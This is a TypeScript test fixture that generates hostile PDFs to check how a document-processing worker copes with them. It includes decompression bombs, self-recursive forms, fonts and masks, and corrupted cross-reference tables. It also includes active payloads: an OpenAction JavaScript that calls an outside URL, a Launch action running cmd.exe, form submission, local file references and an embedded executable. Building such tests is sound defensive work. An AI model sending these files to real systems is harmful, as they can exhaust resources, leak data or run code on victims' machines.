import { deflateSync } from 'node:zlib'
import { flateBomb, formBomb, paintBomb } from '../workers/documents/bombs.ts'
import { rawPdf, streamObject } from '../workers/documents/samples.ts'
import { type Bait, filled, type HostileFile } from './hostile-file.ts'

const MIB = 1024 * 1024
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = (more = '', box = '0 0 595 842'): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R ${more} >>`
const FONT = '/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'
const text = (orders: string): Buffer => streamObject('', Buffer.from(orders))

/** PDFs that swell, turn in circles, act, or are broken. */
export function hostilePdfs({ url, file }: Bait): HostileFile[] {
  const acting = (entries: string): Buffer =>
    rawPdf([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, PAGES, page(), text('')])
  const whole = acting('')
  return [
    pdf('drawing orders of half a gigabyte', flateBomb(500)),
    pdf(
      'streams packed twice',
      rawPdf([
        CATALOG,
        PAGES,
        page(),
        streamObject(
          '/Filter [/FlateDecode /FlateDecode]',
          deflateSync(deflateSync(Buffer.alloc(400 * MIB, '0 0 m '))),
        ),
      ]),
    ),
    pdf('forms in forms', formBomb()),
    pdf('one picture painted for ever', paintBomb()),
    pdf(
      'five million orders',
      rawPdf([CATALOG, PAGES, page(FONT), text('0 0 m 9 9 l S\n'.repeat(2_500_000))]),
    ),
    pdf(
      'pages that are their own parents',
      rawPdf([CATALOG, '<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3 >>']),
    ),
    pdf(
      'a million pages that are one',
      rawPdf([
        CATALOG,
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(200_000)}] /Count 1000000 >>`,
        page(),
        text(''),
      ]),
    ),
    pdf(
      'a form that draws itself',
      rawPdf([
        CATALOG,
        PAGES,
        page('/Resources << /XObject << /F 5 0 R >> >>'),
        text('/F Do'),
        streamObject(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>',
          Buffer.from('/F Do /F Do'),
        ),
      ]),
    ),
    pdf(
      'a pattern that paints itself',
      rawPdf([
        CATALOG,
        PAGES,
        page('/Resources << /Pattern << /P 5 0 R >> >>'),
        text('/Pattern cs /P scn 0 0 595 842 re f'),
        streamObject(
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 5 0 R >> >>',
          Buffer.from('/Pattern cs /P scn 0 0 1 1 re f'),
        ),
      ]),
    ),
    pdf(
      'letters drawn by themselves',
      rawPdf([
        CATALOG,
        PAGES,
        page('/Resources << /Font << /F 5 0 R >> >>'),
        text('BT /F 9 Tf (aaaa) Tj ET'),
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>',
        text('BT /F 9 Tf (aaaa) Tj ET'),
      ]),
    ),
    pdf(
      'a mask that masks itself',
      rawPdf([
        CATALOG,
        PAGES,
        page('/Resources << /ExtGState << /G 5 0 R >> >>'),
        text('/G gs 0 0 9 9 re f'),
        '<< /SMask << /S /Luminosity /G 6 0 R >> >>',
        streamObject(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Group << /S /Transparency >> /Resources << /ExtGState << /G 5 0 R >> >>',
          Buffer.from('/G gs 0 0 9 9 re f'),
        ),
      ]),
    ),
    pdf(
      'a page of a million kilometres',
      rawPdf([CATALOG, PAGES, page('', '0 0 9999999999 9999999999'), text('')]),
    ),
    pdf('a page of nothing', rawPdf([CATALOG, PAGES, page('', '0 0 0 0'), text('')])),
    pdf('a page that is a thread', rawPdf([CATALOG, PAGES, page('', '0 0 1 200000'), text('')])),
    pdf(
      'a picture that is too large',
      rawPdf([
        CATALOG,
        PAGES,
        page('/Resources << /XObject << /I 5 0 R >> >>'),
        text('q 595 0 0 842 0 0 cm /I Do Q'),
        streamObject(
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
          deflateSync(Buffer.alloc(MIB)),
        ),
      ]),
    ),
    pdf(
      'pictures of decoders in decline',
      rawPdf([
        CATALOG,
        PAGES,
        page('/Resources << /XObject << /I 5 0 R /J 6 0 R >> >>'),
        text('/I Do /J Do'),
        streamObject(
          '/Type /XObject /Subtype /Image /Width 99999 /Height 99999 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode',
          filled('\x97JB2', 5000),
        ),
        streamObject(
          '/Type /XObject /Subtype /Image /Width 99999 /Height 99999 /ColorSpace /DeviceRGB /Filter /JPXDecode',
          filled('\x00\x00\x00\x0cjP  ', 5000),
        ),
      ]),
    ),
    pdf(
      'a text of 30 MB',
      rawPdf([CATALOG, PAGES, page(FONT), text(`BT /F 9 Tf (${'a'.repeat(30 * MIB)}) Tj ET`)]),
    ),
    pdf(
      'a script that runs on opening',
      acting(`/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/js"\\)) >>`),
    ),
    pdf('a program that starts', acting('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    pdf('an address that is called', acting(`/OpenAction << /S /URI /URI (${url}/uri) >>`)),
    pdf('a form that is sent', acting(`/OpenAction << /S /SubmitForm /F (${url}/form) >>`)),
    pdf(
      'a page that is our file',
      rawPdf([
        CATALOG,
        PAGES,
        page(`/Resources << /XObject << /F 5 0 R >> >>`),
        text('/F Do'),
        `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${file}) /Page 0 >> /Length 0 >>\nstream\n\nendstream`,
      ]),
    ),
    pdf(
      'a stream that is our file',
      rawPdf([CATALOG, PAGES, page(), `<< /F (${file}) /FFilter [] /Length 0 >>\nstream\n\nendstream`]),
    ),
    pdf(
      'a file in a file',
      acting(
        '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>',
      ),
    ),
    pdf('XFA with an entity', acting(`/AcroForm << /XFA 4 0 R /Fields [] >>`)),
    pdf('outlines in a circle', acting('/Outlines << /First 4 0 R /Last 4 0 R /Count 999999 >>')),
    pdf('its second half cut off', whole.subarray(0, whole.length / 2)),
    pdf(
      'its table of places all wrong',
      Buffer.from(whole.toString('latin1').replace(/\d{10} 00000 n/g, '9999999999 00000 n'), 'latin1'),
    ),
    pdf(
      'tables of places in a circle',
      Buffer.from(
        whole.toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R /Prev ${whole.lastIndexOf('xref\n0')}`),
        'latin1',
      ),
    ),
    pdf('brackets in brackets', rawPdf([CATALOG, PAGES, page(`/X ${'['.repeat(100_000)}`), text('')])),
    pdf('objects that are each other', rawPdf(['2 0 R', '1 0 R', '3 0 R'])),
    pdf('a head and nothing', Buffer.from('%PDF-1.7\n')),
    pdf('zeros after a head', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20 * MIB)])),
  ]
}

function pdf(why: string, bytes: Buffer): HostileFile {
  return { name: 'order.pdf', why, bytes }
}
